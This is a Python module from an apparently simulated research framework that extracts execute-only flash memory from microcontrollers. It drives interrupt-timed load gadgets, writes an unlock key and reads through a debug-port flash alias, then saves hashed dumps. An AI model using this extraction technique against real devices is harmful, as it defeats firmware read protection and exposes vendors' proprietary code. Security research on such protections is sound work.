"""Byte-exact extraction of XOM content through the device flaws.

Gadget extraction works one access at a time: craft a state that points the
gadget's load at the target, arm SysTick so the interrupt lands right after
the load retires, then read the destination registers back from the state
the handler sees.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field, replace
from pathlib import Path

from ..device.model import DeviceModel, ResponseKind
from ..isa.machine import M32, OutcomeKind, SystemState, execute
from .gadgets import (
    ExploitError, Gadget, GadgetKind, NoGadget, candidate_gadgets, find_load_gadget, rules_for,
)


class ChannelUnavailable(ExploitError):
    pass


class ExtractionFault(ExploitError):
    def __init__(self, message, address=None):
        super().__init__(message)
        self.address = address


class RelockInterference(ExtractionFault):
    pass


_SOLVE_STEP = 0x100


class _PlanBus:
    """Attacker-side memory for planning: only the unlock register exists."""

    def __init__(self, dev: DeviceModel):
        self.unlock = dev.memory_map.unlock_register
        self.flash = dev.memory_map

    def load(self, addr, size, pc_relative):
        # the gadget's own load: value unknown, cycles are what matter
        return 0 if self.flash.flash_address(addr) is not None else None

    def store(self, addr, size, value):
        return addr == self.unlock and size >= 2


def _load_address(ins, state: SystemState) -> int:
    if ins.op == "ldm":
        return state.reg(ins.rn)
    if ins.op.endswith("_reg"):
        return (state.reg(ins.rn) + state.reg(ins.rm)) & M32
    return (state.reg(ins.rn) + ins.imm) & M32


@dataclass
class _Plan:
    state: SystemState
    cycles: tuple[int, ...]


class GadgetDriver:
    """Prepares input states and timing for one gadget on one device."""

    def __init__(self, dev: DeviceModel, g: Gadget, key: int | None = None):
        if g.kind is GadgetKind.ITCM_ALIAS:
            raise ValueError("the alias channel has no gadget to drive")
        self.dev = dev
        self.g = g
        mm = dev.memory_map
        self.sp = mm.sram_base + mm.sram_size // 2
        self.fixed: dict[int, int] = {}
        load = g.load
        if load.op.endswith("_reg") and load.rm != load.rn:
            self.fixed[load.rm] = 0
        if g.store_index is not None:
            store = g.instructions[g.store_index]
            # the attacker's idea of the key; the device checks its own
            key = dev.policy.unlock_key if key is None else key
            key = key or 0
            if store.op.endswith("_reg"):
                self.fixed[store.rn] = mm.unlock_register
                self.fixed[store.rm] = 0
            else:
                self.fixed[store.rn] = (mm.unlock_register - store.imm) & M32
            self.fixed[store.rd] = key

    def _state(self, a: int) -> SystemState:
        regs = tuple(self.fixed.get(i, a & M32) for i in range(13))
        return replace(self.dev.blank_state(), regs=regs, sp=self.sp, lr=0xFFFF_FFFF,
                       pc=self.g.entry)

    def _simulate(self, state: SystemState):
        """(address the load reads, cycles per instruction) or None."""
        bus = _PlanBus(self.dev)
        cycles = []
        for addr, ins in zip(self.g.addresses, self.g.instructions):
            if state.pc != addr:
                return None
            out = execute(state, ins, bus)
            if out.kind is not OutcomeKind.COMPLETED:
                return None
            if ins is self.g.load:
                cycles.append(out.cycles)
                return _load_address(ins, state), tuple(cycles)
            if out.state.primask:
                return None
            cycles.append(out.cycles)
            state = out.state
        return None

    def plan(self, target: int) -> _Plan:
        """Input state whose gadget load reads ``target``."""
        first = self._simulate(self._state(target))
        second = self._simulate(self._state(target + _SOLVE_STEP))
        if first is None or second is None:
            raise ExtractionFault(f"gadget cannot be driven at {target:#x}", target)
        slope = ((second[0] - first[0]) & M32) // _SOLVE_STEP
        miss = (first[0] - target) & M32
        for s in (1, 2):
            if slope != s or miss % s:
                continue
            a = (target - miss // s) & M32
            state = self._state(a)
            sim = self._simulate(state)
            if sim is not None and sim[0] == target:
                return _Plan(state, sim[1])
        raise ExtractionFault(f"no input state points the load at {target:#x}", target)

    def run(self, target: int, split: int | None = None) -> bytes:
        """Execute the gadget once and return the bytes it loaded.

        ``split`` forces an interrupt after that many instructions and
        resumes at the next one, as a retry after a spurious exit would.
        """
        dev, g = self.dev, self.g
        p = self.plan(target)
        dev.apply_state(p.state)
        if split:
            resp = dev.run_until_interrupt(g.entry, sum(p.cycles[:split]))
            if resp.kind is not ResponseKind.INTERRUPT_TAKEN or resp.retired != split:
                raise ExtractionFault(f"first half of the gadget failed at {target:#x}", target)
            dev.apply_state(resp.state)
            resp = dev.run_until_interrupt(g.addresses[split], sum(p.cycles[split:]))
            if resp.kind is ResponseKind.FAULTED:
                cls = RelockInterference if g.store_index is not None and split > g.store_index else ExtractionFault
                raise cls(f"load faulted after the interrupted run at {target:#x}", target)
            expected = len(g.instructions) - split
        else:
            resp = dev.run_until_interrupt(g.entry, sum(p.cycles))
            expected = len(g.instructions)
        if resp.kind is not ResponseKind.INTERRUPT_TAKEN or resp.retired != expected:
            what = resp.exception or resp.kind.value
            raise ExtractionFault(f"gadget did not retire cleanly at {target:#x} ({what})", target)
        return self._collect(resp.state)

    def _collect(self, state: SystemState) -> bytes:
        g = self.g
        if g.load.op == "ldm":
            return b"".join(state.reg(r).to_bytes(4, "little") for r in g.destination_registers)
        value = state.reg(g.destination_registers[0]) & ((1 << (8 * g.access_size)) - 1)
        return value.to_bytes(g.access_size, "little")


def _check_range(start: int, end: int):
    if end <= start:
        raise ValueError("empty extraction range")


def extract_via_gadget(dev: DeviceModel, g: Gadget, start: int, end: int, *,
                       split: int | None = None, key: int | None = None) -> bytes:
    """Read ``[start, end)`` by driving ``g`` once per access.

    ``key`` overrides the unlock key written by an UnlockThenLoad gadget.
    """
    _check_range(start, end)
    driver = GadgetDriver(dev, g, key)
    step = g.access_size
    align = 4 if g.load.op == "ldm" else step
    addr = start - start % align
    out = bytearray()
    while addr < end:
        out += driver.run(addr, split)
        addr += step
    skip = start % align
    return bytes(out[skip:skip + end - start])


def extract_via_itcm_alias(dev: DeviceModel, start: int, end: int) -> bytes:
    """Read ``[start, end)`` through the debug port's alias window."""
    _check_range(start, end)
    mm = dev.memory_map
    alias = mm.policy.itcm_alias
    if alias is None:
        raise ChannelUnavailable(f"{dev.preset} has no unfiltered flash alias")
    if not (mm.in_flash(start) and mm.in_flash(end - 1)):
        raise ValueError("alias extraction covers flash addresses only")
    return dev.debug_read(alias + start - mm.flash_base, end - start)


# ------------------------------------------------------------ dumps


@dataclass
class Dump:
    start: int
    end: int
    data: bytes
    channel: str
    gadget: Gadget | None = None
    queries: int = 0
    device: str = ""
    notes: list[str] = field(default_factory=list)

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.data).hexdigest()

    def manifest(self) -> dict:
        return {
            "device": self.device,
            "range": {"start": f"0x{self.start:08x}", "end": f"0x{self.end:08x}",
                      "length": self.end - self.start},
            "channel": self.channel,
            "gadget": self.gadget.to_json() if self.gadget else None,
            "gadget_description": self.gadget.describe() if self.gadget else self.channel,
            "queries": self.queries,
            "sha256": self.sha256,
        }

    def write(self, path) -> tuple[Path, Path]:
        """Write the flat binary and ``<path>.json`` next to it."""
        path = Path(path)
        path.write_bytes(self.data)
        meta = path.with_name(path.name + ".json")
        meta.write_text(json.dumps(self.manifest(), indent=2) + "\n")
        return path, meta


def verify_dump(path) -> bool:
    """Check a written dump against its manifest hash."""
    path = Path(path)
    meta = json.loads(path.with_name(path.name + ".json").read_text())
    return hashlib.sha256(path.read_bytes()).hexdigest() == meta["sha256"]


def dump(dev: DeviceModel, start: int, end: int, *, listing=None, gadget: Gadget | None = None,
         prefer_alias: bool = True, key: int | None = None) -> Dump:
    """Extract ``[start, end)`` by whichever channel the device leaves open.

    Without a gadget or listing the first XOM range is recovered to find one.
    """
    _check_range(start, end)
    q0, d0 = dev.oracle_queries, dev.stats["debug_read"]
    if prefer_alias and dev.policy.itcm_alias is not None and gadget is None:
        data = extract_via_itcm_alias(dev, start, end)
        return Dump(start, end, data, GadgetKind.ITCM_ALIAS.value,
                    Gadget(GadgetKind.ITCM_ALIAS), dev.stats["debug_read"] - d0, dev.preset)
    if gadget is None:
        rules = rules_for(dev)
        if rules.kind is None:
            raise NoGadget(f"{dev.preset} lets no load inside XOM read XOM")
        if listing is None:
            listing = _recover_for_gadgets(dev)
        gadget = find_load_gadget(listing, dev)
    data = extract_via_gadget(dev, gadget, start, end, key=key)
    return Dump(start, end, data, gadget.kind.value, gadget, dev.oracle_queries - q0, dev.preset)


def _recover_for_gadgets(dev: DeviceModel):
    """Sweep XOM only until the first usable gadget is complete."""
    from ..recovery import INTERRUPT, SINGLE_STEP, Listing, recover_region
    if not dev.xom_ranges:
        raise NoGadget("device has no XOM")
    strategy = SINGLE_STEP if dev.policy.single_step_in_xom else INTERRUPT

    class _Found(Exception):
        pass

    for lo, hi in dev.xom_ranges:
        partial = Listing(lo, hi, strategy, device=dev.preset)

        def check(entry):
            partial.entries.append(entry)
            if next(candidate_gadgets(partial, dev), None) is not None:
                raise _Found

        try:
            recover_region(dev, lo, hi, strategy, progress=check)
        except _Found:
            return partial
    raise NoGadget("no gadget in any XOM range")
